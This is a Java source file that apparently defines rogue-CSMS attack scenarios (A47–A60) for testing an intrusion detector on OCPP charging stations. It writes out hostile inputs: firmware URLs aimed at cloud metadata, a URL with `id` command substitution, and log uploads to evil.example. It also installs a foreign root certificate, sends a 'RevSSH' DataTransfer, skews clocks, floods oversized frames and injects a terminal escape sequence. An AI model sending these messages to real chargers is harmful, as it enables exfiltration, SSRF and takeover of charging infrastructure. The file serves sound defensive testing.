// SPDX-License-Identifier: Apache-2.0
package io.ferrule.ids.laboratory;

import static io.ferrule.ids.laboratory.Payloads.array;
import static io.ferrule.ids.laboratory.Payloads.object;
import static io.ferrule.ids.laboratory.Payloads.profile;
import static io.ferrule.ids.laboratory.Payloads.status;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.IntStream;

/** Addresses, certificates, lists and answers of a rogue CSMS (A47 to A54, A60). */
final class TrustAttacks {

    private TrustAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.of("A47", "metadata", s -> update(s, "http://169.254.169.254/latest/meta-data")),
                Attack.of("A47", "a command", s -> update(s, "ftp://fw.example/`id`.bin")),
                Attack.of("A47", "good at evil", s -> update(s, "https://fw.example@evil.example/fw.bin")),
                Attack.of(
                        "A48",
                        "inside",
                        s -> s.order("GetDiagnostics", object("location", "http://127.0.0.1:8080/"), object())),
                Attack.of("A48", "a stranger", s -> {
                    s.context(object("log-hosts", array("logs.example")));
                    s.order(
                            "GetLog",
                            object(
                                    "logType",
                                    "SecurityLog",
                                    "requestId",
                                    1,
                                    "log",
                                    object("remoteLocation", "https://evil.example/x")),
                            status("Accepted"));
                }),
                Attack.of(
                        "A48",
                        "without end",
                        s -> s.order(
                                "GetDiagnostics",
                                object("location", "ftp://logs.example/", "retries", 1_000_000_000),
                                object())),
                Attack.of("A49", "a foreign root", s -> {
                    s.context(object("trusted-roots", array("sha256" + "ab".repeat(32))));
                    s.order(
                            "InstallCertificate",
                            object(
                                    "certificateType",
                                    "CentralSystemRootCertificate",
                                    "certificate",
                                    Certificates.SELF_SIGNED),
                            status("Accepted"));
                }),
                Attack.of(
                        "A49",
                        "the last root",
                        s -> s.order(
                                "DeleteCertificate",
                                object(
                                        "certificateHashData",
                                        object(
                                                "hashAlgorithm",
                                                "SHA256",
                                                "issuerNameHash",
                                                "a",
                                                "issuerKeyHash",
                                                "b",
                                                "serialNumber",
                                                "1")),
                                status("Accepted"))),
                Attack.of(
                        "A49",
                        "a chain without end",
                        s -> s.order(
                                "CertificateSigned",
                                object("certificateChain", "A".repeat(12_000)),
                                status("Rejected"))),
                Attack.of("A50", "emptied", s -> list(s, 0, 9)),
                Attack.of("A50", "shrunk", s -> {
                    list(s, 100, 8);
                    list(s.pause(60), 2, 9);
                }),
                Attack.of(
                        "A50",
                        "all caches",
                        s -> fleet(s, 10, 1, 1, a -> a.order("ClearCache", object(), status("Accepted")))),
                Attack.of("A51", "a back door", s -> transfer(s, "com.vendor", "RevSSH", "203.0.113.9")),
                Attack.of("A51", "a stranger", s -> {
                    s.context(object("vendor-ids", array("com.vendor")));
                    transfer(s, "com.evil", "x", "y");
                }),
                Attack.of("A51", "a long blob", s -> transfer(s, "com.vendor", "blob", "QUJD".repeat(2_000))),
                Attack.of("A52", "a day ahead", s -> {
                    s.boot().pause(60).heartbeat().pause(60);
                    s.tell(
                            "Heartbeat",
                            object(),
                            object("currentTime", s.now.plusSeconds(86_400).toString()));
                }),
                Attack.of("A52", "1970", s -> {
                    s.boot().pause(60);
                    s.tell("Heartbeat", object(), object("currentTime", "1970-01-01T00:00:00Z"));
                }),
                Attack.of(
                        "A52",
                        "never again",
                        s -> s.tell(
                                "BootNotification",
                                object("chargePointVendor", "v", "chargePointModel", "m"),
                                object("status", "Accepted", "currentTime", s.time(), "interval", Integer.MAX_VALUE))),
                Attack.of("A53", "never accepted", s -> {
                    for (int i = 0; i < 12; i++) {
                        s.pause(60)
                                .tell(
                                        "BootNotification",
                                        object("chargePointVendor", "v", "chargePointModel", "m"),
                                        object(
                                                "status",
                                                i % 2 == 0 ? "Pending" : "Rejected",
                                                "currentTime",
                                                s.time(),
                                                "interval",
                                                60));
                    }
                }),
                Attack.of("A53", "everybody blocked", s -> {
                    for (int i = 0; i < 6; i++) {
                        s.pause(300).authorize("T" + i, "Blocked");
                    }
                }),
                Attack.of("A53", "the same number", s -> s.start(1, "A", 0, 5)
                        .pause(30)
                        .start(2, "B", 7, 5)),
                Attack.of("A54", "beyond the buffer", s -> {
                    s.context(object("stations", array(object("id", "CP1", "limits", object("frame-bytes", 2_048)))));
                    transfer(s, "com.vendor", "x", "a b ".repeat(900));
                }),
                Attack.of("A54", "too many periods", s -> {
                    s.context(object(
                            "stations", array(object("id", "CP1", "limits", object("schedule-max-periods", 6)))));
                    s.order("SetChargingProfile", periods(30), status("Accepted"));
                }),
                Attack.of("A54", "a hundred kilobytes", s -> transfer(s, "com.vendor", "x", "a b ".repeat(25_000))),
                Attack.of("A60", "a foreign CSMS", s -> {
                    s.context(object("csms-peers", array("192.0.2.1")));
                    s.csms("203.0.113.5").heartbeat();
                }),
                Attack.of("A60", "a foreign command", s -> {
                    s.context(object("csms-peers", array("192.0.2.1", "192.0.2.2")));
                    s.csms("203.0.113.5").order("ClearCache", object(), status("Accepted"));
                }),
                Attack.of(
                        "A60",
                        "a name for the log",
                        s -> s.event("refused", "reason", "unknown-id", "station", "x\u001b[31m")));
    }

    private static void fleet(Scene s, int stations, int times, double every, Consumer<Scene> what) {
        for (int i = 0; i < stations * times; i++) {
            what.accept(s.at("CP" + (i % stations)).pause(every * (0.8 + 0.3 * s.random.nextDouble())));
        }
    }

    private static void update(Scene s, String location) {
        s.order("UpdateFirmware", object("location", location, "retrieveDate", s.time()), object());
    }

    private static void transfer(Scene s, String vendor, String message, String data) {
        s.order("DataTransfer", object("vendorId", vendor, "messageId", message, "data", data), status("Accepted"));
    }

    private static void list(Scene s, int size, int version) {
        Object[] entries =
                IntStream.range(0, size).mapToObj(i -> object("idTag", "T" + i)).toArray();
        s.order(
                "SendLocalList",
                object("listVersion", version, "updateType", "Full", "localAuthorizationList", array(entries)),
                status("Accepted"));
    }

    private static ObjectNode periods(int count) {
        ObjectNode profile = profile(16, "A");
        ObjectNode schedule = (ObjectNode) profile.path("csChargingProfiles").path("chargingSchedule");
        schedule.set(
                "chargingSchedulePeriod",
                array(IntStream.range(0, count)
                        .mapToObj(i -> object("startPeriod", i * 60, "limit", 16))
                        .toArray()));
        return profile;
    }
}
